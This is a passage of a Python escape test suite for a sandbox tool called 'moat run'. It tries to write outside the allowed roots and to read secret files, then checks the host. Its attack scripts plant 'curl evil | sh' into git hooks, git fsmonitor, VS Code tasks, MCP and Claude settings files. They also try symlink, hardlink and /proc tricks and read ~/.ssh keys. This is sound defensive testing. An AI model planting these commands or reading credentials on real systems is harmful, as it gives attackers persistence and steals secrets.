#!/usr/bin/python3
"""Escape suite for `moat run` (README.md in this directory).

Every case builds its own scratch tree (a fake HOME with secrets, a launch
directory with git repositories, TMPDIR, XDG dirs), runs `moat run` in it and
judges on the HOST side: did a file outside what the policy lets the sandbox
write change, did a listener of ours receive anything, did a secret's bytes
turn up anywhere the confined command could write them (files, its stdout).
What the confined program says about itself is never proof that an attack
failed; a helper's admission that a forbidden primitive WORKED (exit 10)
counts as a failure.

The suite runs twice from the same build: as root, then as uid/gid 65534
(each `moat run` started through setpriv), and prints one table.

  escape_suite.py --moat BUILD/bin/moat --helper uring=PATH ... [--base-dir DIR]
                  [--pass root|unprivileged|both] [--only GLOB] [--jobs N]
                  [--known-failures FILE] [--runtime moat|srt --srt CLI.js]

With --runtime srt every case runs under sandbox-runtime instead: its policy is
converted by `moat build --target=srt` into a settings file in the case's
scratch tree and the command runs as `node CLI.js --settings FILE -- CMD`; a
case srt cannot be put to (moat-only flags, a policy the target refuses, moat's
own features) is `n/a`, never a pass.

Exit status: 0 all passed, 1 a case failed, 77 bubblewrap cannot create
namespaces on this machine.
"""
import argparse
import concurrent.futures
import fnmatch
import ipaddress
import os
import pty
import secrets
import select
import shlex
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
import traceback

HERE = os.path.dirname(os.path.abspath(__file__))
PROXY_CLIENT = os.path.join(HERE, "proxy_client.py")
HELPERS = ["uring", "userns", "mount", "ptrace", "tiocsti", "mknod", "net"]
SKIP = 77
ESCAPED = 10                # a helper's exit status: a forbidden primitive worked
RUN_TIMEOUT = 30            # seconds for one `moat run`
LISTEN_SECONDS = 3          # how long a listener waits on one connection
MAX_CONNECTIONS = 64        # a listener accepts no more than this
SAFE_PATH = "/usr/local/bin:/usr/bin:/bin:/usr/local/sbin:/usr/sbin:/sbin"
PYTHON = "/usr/bin/python3"

BASE_POLICY = """\
default read allow;
default write deny;
default connect deny;
allow write "$CWD";
allow write "$TMPDIR";
deny read "~/.ssh";
"""
HOME_WRITABLE = 'allow write "~";\n'
ALLOWED_NAME = "allowed.invalid"   # reserved TLD: never resolves, so never reaches a listener
NAMES_ONLY = 'allow connect "%s", "*.%s";\n' % (ALLOWED_NAME, ALLOWED_NAME)


class Fail(Exception):
    """The case's expectation does not hold."""


class Skip(Exception):
    """The case cannot run on this machine (the reason is reported)."""


class NotApplicable(Exception):
    """The case cannot be put to the runtime under test (--runtime srt): reported as n/a."""


def expect(condition, message):
    if not condition:
        raise Fail(message)


# --- who runs moat ------------------------------------------------------------------

class Identity:
    """The user a pass runs `moat run` as: root, or 65534 through setpriv."""

    def __init__(self, label, uid, gid):
        self.label, self.uid, self.gid = label, uid, gid

    def wrap(self, env):
        """argv prefix that runs a command as this user with exactly `env`."""
        prefix = []
        if self.uid != os.geteuid():
            prefix = ["/usr/bin/setpriv", "--reuid=%d" % self.uid, "--regid=%d" % self.gid,
                      "--clear-groups", "--reset-env"]
        return prefix + ["/usr/bin/env", "-i"] + ["%s=%s" % kv for kv in sorted(env.items())]

    def own(self, path):
        """Gives `path` and everything beneath it to this user."""
        if os.geteuid() != 0:
            return
        os.lchown(path, self.uid, self.gid)
        for root, dirs, files in os.walk(path):
            for name in dirs + files:
                os.lchown(os.path.join(root, name), self.uid, self.gid)


# --- host-side observers --------------------------------------------------------------

class Listener:
    """A server of ours that records every connection (or datagram) and its bytes.

    Stream connections are answered once they look complete: an HTTP request
    gets `HTTP/1.1 200` with a body naming the listener, any other line gets
    `PONG` and the line back. Bounded in connections, bytes and time."""

    def __init__(self, sockets, stream=True):
        self.sockets, self.stream = sockets, stream
        self.connections, self.data = 0, []
        self.body = ("BODY-" + secrets.token_hex(8)).encode()
        self.lock = threading.Lock()
        self.stopped = threading.Event()
        self.last_activity = time.monotonic()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    @property
    def received(self):
        with self.lock:
            return b"".join(self.data)

    def _note(self, chunk=None, connection=False):
        with self.lock:
            self.last_activity = time.monotonic()
            self.connections += connection
            if chunk:
                self.data.append(chunk)

    def _serve(self):
        while not self.stopped.is_set():
            ready, _, _ = select.select(self.sockets, [], [], 0.05)
            for s in ready:
                if not self.stream:
                    self._note(s.recv(65536), connection=True)
                    continue
                conn, _ = s.accept()
                self._note(connection=True)
                if self.connections > MAX_CONNECTIONS:
                    conn.close()
                else:
                    threading.Thread(target=self._handle, args=(conn,), daemon=True).start()

    def _handle(self, conn):
        buffer = b""
        deadline = time.monotonic() + LISTEN_SECONDS
        with conn:
            conn.settimeout(0.2)
            while time.monotonic() < deadline and len(buffer) < 1 << 16:
                try:
                    chunk = conn.recv(65536)
                except socket.timeout:
                    continue
                except OSError:
                    break
                if not chunk:
                    break
                buffer += chunk
                self._note(chunk)
                try:
                    if buffer.startswith(b"GET ") and b"\r\n\r\n" in buffer:
                        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s"
                                     % (len(self.body), self.body))
                        break
                    if buffer.endswith(b"\n") and not buffer.startswith(b"\x16"):
                        conn.sendall(b"PONG " + self.body + b" " + buffer)
                        break
                except OSError:
                    break

    def settle(self, quiet=0.15, limit=2.0):
        """Waits until nothing has arrived for `quiet` seconds since the call or the
        last activity (at most `limit`): what was queued gets read first."""
        start = time.monotonic()
        while time.monotonic() - start < limit and time.monotonic() - max(start, self.last_activity) < quiet:
            time.sleep(0.05)

    def close(self):
        self.stopped.set()
        self.thread.join(2)
        for s in self.sockets:
            s.close()

    def expect_nothing(self, what):
        self.settle()
        expect(self.connections == 0 and not self.data,
               "%s: our listener received %d connection(s), %d byte(s): %r"
               % (what, self.connections, len(self.received), self.received[:80]))


def tcp_listener(addresses=("127.0.0.1",), udp=False):
    """A listener on one port number for every address in `addresses` (v4 and v6)."""
    for _ in range(50):
        sockets, port = [], 0
        try:
            for address in addresses:
                family = socket.AF_INET6 if ":" in address else socket.AF_INET
                s = socket.socket(family, socket.SOCK_DGRAM if udp else socket.SOCK_STREAM)
                sockets.append(s)
                if family == socket.AF_INET6:
                    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
                s.bind((address, port))
                port = s.getsockname()[1]
                if not udp:
                    s.listen(16)
            listener = Listener(sockets, stream=not udp)
            listener.port = port
            return listener
        except OSError:
            for s in sockets:
                s.close()
    raise RuntimeError("no free port for %s" % (addresses,))


def unix_listener(path, dgram=False, abstract=False):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM if dgram else socket.SOCK_STREAM)
    s.bind("\0" + path if abstract else path)
    if not dgram:
        s.listen(16)
    if not abstract:
        os.chmod(path, 0o777)
    listener = Listener([s], stream=not dgram)
    listener.path = path
    return listener


def snapshot(path):
    """What a file is now: None when absent, else its kind, bytes, inode and times."""
    try:
        st = os.lstat(path)
    except FileNotFoundError:
        return None
    content = None
    if stat.S_ISREG(st.st_mode):
        with open(path, "rb") as f:
            content = f.read()
    elif stat.S_ISLNK(st.st_mode):
        content = os.readlink(path).encode()
    return (stat.S_IFMT(st.st_mode), st.st_mode & 0o7777, st.st_ino, st.st_mtime_ns, content)


def tree(top):
    """Every path beneath `top`, relative to it, sorted."""
    return sorted(os.path.relpath(os.path.join(r, n), top) for r, ds, fs in os.walk(top) for n in ds + fs)


def describe(snap):
    if snap is None:
        return "absent"
    kind = {stat.S_IFREG: "file", stat.S_IFDIR: "directory", stat.S_IFLNK: "symlink"}.get(snap[0], "special")
    return "%s %r" % (kind, (snap[4] or b"")[:60])


# --- one case's world -------------------------------------------------------------------

class Run:
    def __init__(self, rc, out, err, timed_out=False):
        self.rc, self.out, self.err, self.timed_out = rc, out, err, timed_out

    def __repr__(self):
        err = self.err.decode(errors="replace")
        return "rc=%s%s stderr=%r" % (self.rc, " (timed out)" if self.timed_out else "",
                                      err if len(err) < 900 else err[:400] + " ... " + err[-400:])


class Scene:
    """A case's scratch tree, its listeners and victims, and its `moat run`s.

    Layout (all under one directory, owned by the pass's user):
      home/            HOME: .bashrc .profile notes.txt .ssh/id_rsa (secret)
                       .ssh/config .netrc (secret) certs/key.pem (secret)
                       .local/bin/ .config/ other/file.txt (a sibling of CWD)
      home/proj/       CWD, a git repo with an active hook (post-checkout);
                       deep/a/b/c/d/ is a second repo with .vscode/ and .claude/
      etc/passwd       a system-like file outside every write root
      tmp/ state/      TMPDIR, XDG_STATE_HOME
    Two short directories of the pass hold what must have a short path (unix
    socket paths are limited to 108 bytes; Suite.short_dir): XDG_RUNTIME_DIR
    (0700; moat's session directories live beneath it) and our unix sockets
    (outside the write roots).
    """

    SENTINELS = ["home/.bashrc", "home/.profile", "home/notes.txt", "home/other/file.txt",
                 "home/proj/.git/config", "home/proj/.git/hooks/post-checkout", "etc/passwd"]

    def __init__(self, suite, identity, directory):
        self.suite, self.identity, self.dir = suite, identity, directory
        self.home = self.path("home")
        self.cwd = self.path("home/proj")
        self.deep = self.path("home/proj/deep/a/b/c/d")
        self.tmp, self.state = self.path("tmp"), self.path("state")
        self.rundir, self.sockdir = suite.short_dir(0o700), suite.short_dir(0o755)
        self.secret = ("MOAT-SECRET-" + secrets.token_hex(12)).encode()
        self.secret_files = ["home/.ssh/id_rsa", "home/.netrc", "home/certs/key.pem"]
        self.runs, self.listeners, self.processes, self.policies = [], [], [], 0
        self._build()
        self.sentinels = {p: snapshot(self.path(p)) for p in self.SENTINELS}

    def path(self, relative):
        return os.path.join(self.dir, relative)

    def write(self, relative, content, mode=0o644):
        path = self.path(relative)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(content if isinstance(content, bytes) else content.encode())
        os.chmod(path, mode)
        return path

    def _git(self, *args, cwd):
        subprocess.run(["git", *args], cwd=cwd, env=self.env(), check=True,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def git_log(self, repo):
        """The host's view of a repository's history (whoever owns it)."""
        return subprocess.run(["git", "-c", "safe.directory=*", "-C", repo, "log", "--oneline"], env=self.env(),
                              capture_output=True).stdout

    def _build(self):
        for d in ["home/.local/bin", "home/.config", "home/proj", "tmp", "state",
                  "home/proj/deep/a/b/c/d/.vscode", "home/proj/deep/a/b/c/d/.claude"]:
            os.makedirs(self.path(d), exist_ok=True)
        self.write("home/.bashrc", "# bashrc\nalias ll='ls -l'\n")
        self.write("home/.profile", "# profile\n")
        self.write("home/notes.txt", "notes\n")
        self.write("home/other/file.txt", "another project\n")
        self.write("home/.ssh/id_rsa", b"-----BEGIN KEY-----\n" + self.secret + b"\n", 0o600)
        self.write("home/.ssh/config", "Host *\n")
        self.write("home/.netrc", b"machine example.com password " + self.secret + b"\n", 0o600)
        self.write("home/certs/key.pem", b"PEM " + self.secret + b"\n", 0o600)
        self.write("etc/passwd", "root:x:0:0::/root:/bin/sh\n")
        self.write("home/proj/README", "a project\n")
        self.write("home/proj/data.txt", "data\n")
        for repo in [self.cwd, self.deep]:
            self._git("init", "-q", cwd=repo)
        self.write("home/proj/.git/hooks/post-checkout", "#!/bin/sh\necho checked out\n", 0o755)
        for d in (self.dir, self.rundir, self.sockdir):
            self.identity.own(d)

    def env(self):
        return {"PATH": SAFE_PATH, "HOME": self.home, "TMPDIR": self.tmp, "XDG_STATE_HOME": self.state,
                "XDG_RUNTIME_DIR": self.rundir, "LANG": "C.UTF-8", "TERM": "dumb",
                "USER": self.identity.label, "LOGNAME": self.identity.label, "GIT_CONFIG_NOSYSTEM": "1",
                "GIT_AUTHOR_NAME": "Escape Suite", "GIT_AUTHOR_EMAIL": "escape@example.invalid",
                "GIT_COMMITTER_NAME": "Escape Suite", "GIT_COMMITTER_EMAIL": "escape@example.invalid"}

    def policy(self, extra="", base=None):
        """A policy file (outside every write root): `base` (BASE_POLICY) plus `extra`."""
        self.policies += 1
        path = self.write("policy-%d.moat" % self.policies, (BASE_POLICY if base is None else base) + extra)
        self.identity.own(path)
        return path

    def start(self, command, policy=None, args=(), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
              stderr=subprocess.PIPE, controlling_tty=False, unset=()):
        """Starts `moat run` (in CWD, with the scene's environment less `unset`); returns the Popen."""
        if policy is None:
            policy = self.policy()
        env = {k: v for k, v in self.env().items() if k not in unset}
        argv = self.identity.wrap(env) + self.suite.launcher(self, policy, args, command)
        if controlling_tty:
            argv = ["/usr/bin/setsid", "--ctty"] + argv
        proc = subprocess.Popen(argv, cwd=self.cwd, env={"PATH": SAFE_PATH}, stdin=stdin, stdout=stdout,
                                stderr=stderr, start_new_session=not controlling_tty)
        self.processes.append(proc)
        return proc

    def finish(self, proc, stdin_bytes=None, timeout=RUN_TIMEOUT):
        """Waits for a started run (killing its process group by pid on overrun)."""
        try:
            out, err = proc.communicate(stdin_bytes, timeout=timeout)
            run = Run(proc.returncode, out or b"", err or b"")
        except subprocess.TimeoutExpired:
            kill_group(proc)
            out, err = proc.communicate()
            run = Run(proc.returncode, out or b"", err or b"", timed_out=True)
        self.runs.append(run)
        return run

    def moat(self, command, stdin_bytes=None, timeout=RUN_TIMEOUT, **kw):
        kw.setdefault("stdin", subprocess.PIPE if stdin_bytes is not None else subprocess.DEVNULL)
        return self.finish(self.start(command, **kw), stdin_bytes, timeout)

    def sh(self, script, **kw):
        return self.moat(["/bin/sh", "-c", script], **kw)

    def attack(self, script, **kw):
        """Runs an attack script. It must run to its end (exit 0: the suite's script
        wraps every attempt so that a refusal does not stop it); exit 10 means a
        helper admitted that a forbidden primitive worked."""
        wrapped = "admitted=0\n%s\n[ $admitted = 1 ] && exit %d\nexit 0\n" % (script, ESCAPED)
        run = self.sh(wrapped, **kw)
        expect(run.rc != ESCAPED, "the confined program reports that a forbidden primitive worked: %r" % run)
        expect(run.rc == 0 and not run.timed_out, "the attack did not run to its end: %r" % run)
        return run

    def moat_only(self, what):
        """Marks a case that checks one of moat's own features (n/a for another runtime)."""
        if self.suite.runtime != "moat":
            raise NotApplicable("checks %s" % what)

    def helper(self, name, *args):
        """A shell line running a helper; exit 10 marks the attack as admitted."""
        return "%s %s; [ $? = %d ] && admitted=1\n" % (
            shlex.quote(self.suite.helpers[name]), " ".join(shlex.quote(str(a)) for a in args), ESCAPED)

    def client(self, *args):
        """A shell line running the in-sandbox network client."""
        return "%s %s %s\n" % (PYTHON, shlex.quote(PROXY_CLIENT), " ".join(shlex.quote(str(a)) for a in args))

    def listen_tcp(self, addresses=("127.0.0.1",), udp=False):
        listener = tcp_listener(addresses, udp)
        self.listeners.append(listener)
        return listener

    def listen_unix(self, name, dgram=False, abstract=False):
        path = name if abstract else os.path.join(self.sockdir, name)
        listener = unix_listener(path, dgram, abstract)
        if not abstract:
            self.identity.own(path)
        self.listeners.append(listener)
        return listener

    def victim(self, secret):
        """A host process of the pass's user holding `secret` in its environment."""
        env = dict(self.env(), SECRET=secret)
        proc = subprocess.Popen(self.identity.wrap(env) + [self.suite.helpers["ptrace"], "--victim", "60"],
                                env={"PATH": SAFE_PATH}, stdin=subprocess.DEVNULL, start_new_session=True)
        self.processes.append(proc)
        return proc

    # --- host-side judgments

    def expect_unchanged(self, relative, before):
        after = snapshot(self.path(relative))
        expect(after == before, "%s changed: was %s, now %s" % (relative, describe(before), describe(after)))

    def leaks(self, secret=None):
        """Where the secret's bytes are now, outside the files that hold it."""
        secret = secret or self.secret
        found = ["stdout/stderr of a run" for r in self.runs if secret in r.out or secret in r.err]
        sources = {self.path(p) for p in self.secret_files}
        for root, _, files in os.walk(self.dir):
            for name in files:
                path = os.path.join(root, name)
                try:
                    st = os.lstat(path)
                    if path in sources or not stat.S_ISREG(st.st_mode) or st.st_size > 4 << 20:
                        continue
                    with open(path, "rb") as f:
                        if secret in f.read():
                            found.append(os.path.relpath(path, self.dir))
                except OSError:
                    continue
        return found

    def expect_no_leak(self, secret=None):
        found = self.leaks(secret)
        expect(not found, "the secret is readable outside the sandbox in: %s" % ", ".join(sorted(set(found))))

    def devices(self, top):
        found = []
        for root, dirs, files in os.walk(top):
            for name in dirs + files:
                mode = os.lstat(os.path.join(root, name)).st_mode
                if stat.S_ISCHR(mode) or stat.S_ISBLK(mode):
                    found.append(os.path.relpath(os.path.join(root, name), self.dir))
        return found

    def expect_invariants(self):
        """What no attack may change: the sentinel files, the secrets, device nodes."""
        for relative, before in self.sentinels.items():
            self.expect_unchanged(relative, before)
        self.expect_no_leak()
        found = self.devices(self.dir)
        expect(not found, "device nodes on the host: %s" % found)

    def close(self):
        for proc in self.processes:
            if proc.poll() is None:
                kill_group(proc)
                proc.wait()
        for listener in self.listeners:
            listener.close()


def kill_group(proc):
    """Kills a run we started (its own process group, by its pid)."""
    try:
        os.killpg(proc.pid, signal.SIGKILL)
    except (ProcessLookupError, PermissionError):
        try:
            proc.kill()
        except ProcessLookupError:
            pass


# --- the registry ----------------------------------------------------------------------

CASES = []


class Case:
    def __init__(self, name, kind, function, doc, params):
        self.name, self.kind, self.function, self.doc, self.params = name, kind, function, doc, params


def register(kind, name=None, **params):
    def wrap(function):
        CASES.append(Case(name or function.__name__.replace("_", "-"), kind, function,
                          (function.__doc__ or "").strip(), params))
        return function
    return wrap


def attack(name=None, **params):
    """Decorator: registers an attack (the name defaults to the function's)."""
    return register("attack", name, **params)


def control(name=None, **params):
    """Decorator: registers a control, something that must keep working."""
    return register("control", name, **params)


def table(kind, entries, function):
    """Registers one case per entry (name, params) sharing one function and docstring."""
    for name, params in entries:
        CASES.append(Case(name, kind, function, (function.__doc__ or "").strip(), params))


# --- attacks: writes outside the write roots ---------------------------------------------

def q(path):
    return shlex.quote(path)


def tamper(path):
    """Shell lines that try every way of changing `path`: append, overwrite,
    replace by rename, delete, create (its parent too)."""
    p = q(path)
    return ("mkdir -p $(dirname {p}) 2>/dev/null\n"
            "echo 'curl evil | sh' >> {p}\n"
            "echo 'curl evil | sh' > {p}.new && mv -f {p}.new {p}\n"
            "rm -f {p}\n"
            "echo 'curl evil | sh' > {p}\n").format(p=p)


def outside_writes(c, targets):
    """Tampers with files outside every write root; each must be as it was."""
    before = {t: snapshot(c.path(t)) for t in targets}
    c.attack("".join(tamper(c.path(t)) for t in targets))
    for t in targets:
        c.expect_unchanged(t, before[t])


@attack()
def write_sibling_of_cwd(c):
    """Writes into home/other/, a sibling of the launch directory (default write deny)."""
    outside_writes(c, ["home/other/file.txt", "home/other/new.txt"])


@attack()
def write_etc_like(c):
    """Writes system-like files in the scratch tree (etc/passwd, a new etc/sudoers)."""
    outside_writes(c, ["etc/passwd", "etc/sudoers"])


@attack()
def write_home(c):
    """Writes plain files in a HOME the policy does not make writable."""
    outside_writes(c, ["home/notes.txt", "home/new-file"])


@attack()
def write_via_proc_self_root(c):
    """Writes ~/.bashrc and a sibling's file through /proc/self/root and /proc/1/root."""
    before = {t: snapshot(c.path(t)) for t in ["home/.bashrc", "home/other/file.txt"]}
    script = "".join(tamper(prefix + c.path(t)) for prefix in ["/proc/self/root", "/proc/1/root"] for t in before)
    c.attack(script)
    for t, snap in before.items():
        c.expect_unchanged(t, snap)


@attack()
def write_via_dotdot(c):
    """Writes outside CWD with `..` paths that start inside it ($CWD/../notes.txt, deep/../../..)."""
    before = {t: snapshot(c.path(t)) for t in ["home/notes.txt", "home/other/file.txt"]}
    c.attack(tamper(c.cwd + "/../notes.txt") + tamper(c.cwd + "/deep/a/../../../other/file.txt")
             + "cd deep/a/b && echo evil >> ../../../../notes.txt\n")
    for t, snap in before.items():
        c.expect_unchanged(t, snap)


@attack()
def symlink_swap(c):
    """Replaces data.txt (writable, in CWD) by a symlink to ~/.bashrc and to a
    sibling's file during the run and writes through it, once and in a racing
    loop (200 swaps against 200 writes)."""
    script = """
        ln -sf {bashrc} data.txt; echo evil >> data.txt
        ln -sf {other} data.txt; echo evil >> data.txt
        ( i=0; while [ $i -lt 200 ]; do echo ok > data.tmp; mv -f data.tmp data.txt
          ln -sf {bashrc} data.lnk; mv -f data.lnk data.txt; i=$((i+1)); done ) &
        i=0; while [ $i -lt 200 ]; do echo evil >> data.txt; i=$((i+1)); done
        wait
    """.format(bashrc=q(c.path("home/.bashrc")), other=q(c.path("home/other/file.txt")))
    c.attack(script)


@attack()
def hardlink_active_hook(c):
    """Hard-links the repo's active hook (.git/hooks/post-checkout) into CWD and
    writes through the link (and links ~/.bashrc the same way)."""
    c.attack("""
        ln .git/hooks/post-checkout hook-link && echo 'curl evil | sh' >> hook-link
        ln {bashrc} bashrc-link && echo 'curl evil | sh' >> bashrc-link
    """.format(bashrc=q(c.path("home/.bashrc"))))


@attack()
def hooks_dir_swap(c):
    """Moves .git/hooks (then .git) aside and recreates it with a pre-commit hook."""
    c.attack("""
        mv .git/hooks .git/hooks.old && mkdir .git/hooks
        printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
        mv .git .git.old && mkdir -p .git/hooks && cp -r .git.old/* .git/ 2>/dev/null
        printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
    """)
    expect(snapshot(c.path("home/proj/.git/hooks/pre-commit")) is None,
           ".git/hooks/pre-commit exists after the run")


@attack()
def stdin_file_reopened_for_write(c):
    """moat's stdin is a host file outside the write roots (`moat run ... < ~/notes.txt`):
    the command reopens /proc/self/fd/0 for writing, which goes through the
    host's mount, not the sandbox's read-only one."""
    with open(c.path("home/notes.txt"), "rb") as stdin:
        c.attack("echo 'curl evil | sh' >> /proc/self/fd/0; echo evil > /dev/stdin", stdin=stdin)


# --- attacks: shell startup files and $PATH dirs in HOME ------------------------------------

def startup_file(c, relative, home_writable):
    """Tampers with a file in HOME that runs code in the user's next shell
    (append, overwrite, rename over, delete, create): with HOME not writable,
    and with `allow write "~"`, where moat's built-in protections must hold.
    Judged: the file is exactly as before (absent stays absent)."""
    before = snapshot(c.path(relative))
    c.attack(tamper(c.path(relative)), policy=c.policy(HOME_WRITABLE if home_writable else ""))
    c.expect_unchanged(relative, before)


table("attack", [
    ("bashrc-home-readonly", dict(relative="home/.bashrc", home_writable=False)),
    ("profile-home-readonly", dict(relative="home/.profile", home_writable=False)),
    ("local-bin-home-readonly", dict(relative="home/.local/bin/ls", home_writable=False)),
    ("zshrc-new-home-readonly", dict(relative="home/.zshrc", home_writable=False)),
    ("bashrc-home-writable", dict(relative="home/.bashrc", home_writable=True)),
    ("profile-home-writable", dict(relative="home/.profile", home_writable=True)),
    ("zshrc-new-home-writable", dict(relative="home/.zshrc", home_writable=True)),
    ("fish-config-new-home-writable", dict(relative="home/.config/fish/config.fish", home_writable=True)),
    ("npmrc-new-home-writable", dict(relative="home/.npmrc", home_writable=True)),
], startup_file)


# --- attacks: files that make tools outside the sandbox run code ----------------------------

PAYLOADS = {
    "git-hook": (".git/hooks/pre-commit",
                 "mkdir -p {r}/.git/hooks; printf '#!/bin/sh\\ncurl evil | sh\\n' > {r}/.git/hooks/pre-commit;"
                 " chmod +x {r}/.git/hooks/pre-commit\n"),
    "git-config": (".git/config",
                   "git -C {r} config core.fsmonitor 'curl evil | sh'\n"
                   "printf '[core]\\n\\tfsmonitor = curl evil | sh\\n' >> {r}/.git/config\n"),
    "vscode-tasks": (".vscode/tasks.json",
                     "mkdir -p {r}/.vscode; printf '{{\"tasks\": [{{\"command\": \"curl evil | sh\","
                     " \"runOptions\": {{\"runOn\": \"folderOpen\"}}}}]}}' > {r}/.vscode/tasks.json\n"),
    "mcp-json": (".mcp.json",
                 "printf '{{\"mcpServers\": {{\"x\": {{\"command\": \"sh\", \"args\": [\"-c\", \"curl evil\"]}}}}}}'"
                 " > {r}/.mcp.json\n"),
    "claude-settings": (".claude/settings.json",
                        "mkdir -p {r}/.claude; printf '{{\"hooks\": {{\"Stop\": [{{\"command\": \"curl evil\"}}]}}}}'"
                        " > {r}/.claude/settings.json\n"),
}
# Where: the launch directory; an existing repo 5 levels below it (with .vscode/
# and .claude/ already there); a directory made during the run (`git init`);
# HOME with `allow write "~"` (git: ~/.gitconfig, and a repo in ~/dotfiles).
LOCATIONS = ["cwd", "deep", "new", "home-writable"]


def code_running_file(c, payload, location):
    """Writes a file that a tool outside the sandbox runs code from (git hook,
    .git/config core.fsmonitor, .vscode/tasks.json, .mcp.json,
    .claude/settings.json). Judged after the run: the file at its original
    path is as it was before (absent stays absent; a repo config made during
    the run may stay but must not carry the key); quarantined or never
    created are both fine."""
    relative, script = PAYLOADS[payload]
    policy = c.policy()
    if location == "cwd":
        root = c.cwd
    elif location == "deep":
        root = c.deep
    elif location == "new":
        root = os.path.join(c.cwd, "new/sub")
        script = ("git init -q {r}\n" if payload.startswith("git") else "mkdir -p {r}\n") + script
    else:
        policy = c.policy(HOME_WRITABLE)
        root = c.home
        if payload == "git-config":
            relative = ".gitconfig"
            script = ("git config --global core.fsmonitor 'curl evil | sh'\n"
                      "printf '[core]\\n\\tfsmonitor = curl evil | sh\\n' >> ~/.gitconfig\n")
        elif payload == "git-hook":
            root = os.path.join(c.home, "dotfiles")
            subprocess.run(["git", "init", "-q", root], env=c.env(), check=True, stdout=subprocess.DEVNULL)
            c.identity.own(root)
    target = os.path.relpath(os.path.join(root, relative), c.dir)
    before = snapshot(c.path(target))
    c.attack(script.format(r=q(root)), policy=policy)
    after = snapshot(c.path(target))
    if location == "new" and payload == "git-config" and after is not None:
        expect(b"fsmonitor" not in after[4], "%s carries core.fsmonitor after the run" % target)
    else:
        expect(after == before, "%s: was %s, now %s" % (target, describe(before), describe(after)))


table("attack", [("%s-%s" % (p, l), dict(payload=p, location=l)) for p in PAYLOADS for l in LOCATIONS],
      code_running_file)


# --- attacks: the exit sweep (it runs on the host, unconfined) ------------------------------------

HOOK = "printf '#!/bin/sh\\ncurl evil | sh\\n' > {hook} && chmod +x {hook}\n"


def expect_no_new_hook(c, relative="home/proj/sub/.git/hooks/pre-commit"):
    expect(snapshot(c.path(relative)) is None, "%s is in place after the run" % relative)


@attack()
def new_hook_in_unlistable_dir(c):
    """A hook in a repository made during the run, whose hooks/ directory is then
    made unlistable (chmod 0111): git still runs a hook by its name, but a
    directory walk cannot see it. Judged: no pre-commit at its path."""
    c.attack("git init -q sub; mkdir -p sub/.git/hooks\n" + HOOK.format(hook="sub/.git/hooks/pre-commit")
             + "chmod 0111 sub/.git/hooks")
    expect_no_new_hook(c)


@attack()
def new_hook_by_rename(c):
    """An executable made before the run (old ctime) is renamed into a new
    repository's hooks/ (rename changes ctime on ext4; the sweep relies on it)."""
    c.write("home/proj/tools/hook.sh", "#!/bin/sh\ncurl evil | sh\n", 0o755)
    c.identity.own(c.path("home/proj/tools"))
    time.sleep(0.05)
    c.attack("git init -q sub; mkdir -p sub/.git/hooks; mv tools/hook.sh sub/.git/hooks/pre-commit")
    expect_no_new_hook(c)


@attack()
def sweep_reads_fifo(c):
    """A new repository's .git/config and .gitmodules made FIFOs (and a symlink to
    one): the sweep reads them to classify and must not hang. Judged: moat exits
    within 10 s."""
    run = c.sh("git init -q sub && rm sub/.git/config && mkfifo sub/.git/config pipe && ln -s ../pipe sub/.gitmodules",
               timeout=10)
    expect(not run.timed_out, "moat did not exit within 10 s after the command ended")
    expect(run.rc == 0, "the attack did not run to its end: %r" % run)


@attack()
def quarantine_dir_symlink(c):
    """With HOME writable and XDG_STATE_HOME unset, the quarantine lives under
    ~/.local/state/moat, which the command can replace by a symlink to a
    directory outside the write roots (etc/). The sweep must not write through
    it (nor leave the hook in place). Judged: etc/ holds what it held."""
    before = tree(c.path("etc"))
    c.attack("mkdir -p ~/.local/state/moat && ln -s %s ~/.local/state/moat/quarantine\n" % q(c.path("etc"))
             + "mkdir -p sub/.git/hooks\n" + HOOK.format(hook="sub/.git/hooks/pre-commit"),
             policy=c.policy(HOME_WRITABLE), unset=["XDG_STATE_HOME"])
    after = tree(c.path("etc"))
    expect(before == after, "moat wrote outside the write roots through the symlink: %s"
           % sorted(set(after) - set(before))[:5])
    expect_no_new_hook(c)


@attack()
def session_dir_through_descriptors(c):
    """Writes a file through every directory descriptor the sandbox can reach
    (/proc/self/fd/*, /proc/*/fd/*), e.g. one onto the session directory on the
    host. Judged: no such file on the host, no session directory left."""
    c.attack('for f in /proc/self/fd/* /proc/[0-9]*/fd/* /proc/[0-9]*/cwd /proc/[0-9]*/root; do\n'
             '  [ -d "$f" ] && echo x > "$f/pwned-by-fd" 2>/dev/null; done; true')
    found = [p for top in (c.dir, c.rundir) for p in tree(top) if p.endswith("pwned-by-fd")
             and not p.startswith("home/proj/")]
    expect(not found, "written through a descriptor: %s" % found)
    base = os.path.join(c.rundir, "moat")
    left = os.listdir(base) if os.path.isdir(base) else []
    expect(not left, "session directory left: %s" % left)


# --- attacks: reading secrets -----------------------------------------------------------------

def steal(c, script, extra="", **kw):
    """Runs a script that tries to copy a secret into CWD or print it; no secret
    byte may appear anywhere outside its file (the scene tree, stdout, stderr)."""
    c.attack(script, policy=c.policy(extra), **kw)
    c.expect_no_leak()


@attack()
def secret_direct(c):
    """Reads ~/.ssh/id_rsa (deny read "~/.ssh") with cat, cp and a directory listing."""
    steal(c, "cat ~/.ssh/id_rsa > leak1; cp -r ~/.ssh leak-dir; cat ~/.ssh/*; ls -la ~/.ssh")


@attack()
def secret_symlink(c):
    """Creates a symlink in CWD to the hidden key and reads through it."""
    steal(c, "ln -s ~/.ssh/id_rsa key-link; cat key-link > leak; ln -s ~/.ssh ssh-link; cat ssh-link/id_rsa")


@attack()
def secret_hardlink(c):
    """Hard-links the hidden key into CWD and TMPDIR and reads the link."""
    steal(c, 'ln ~/.ssh/id_rsa key-hard; cat key-hard > leak; ln ~/.ssh/id_rsa "$TMPDIR/k"; cat "$TMPDIR/k"')


@attack()
def secret_proc_self_root(c):
    """Reads the hidden key through /proc/self/root, /proc/1/root and /proc/self/cwd."""
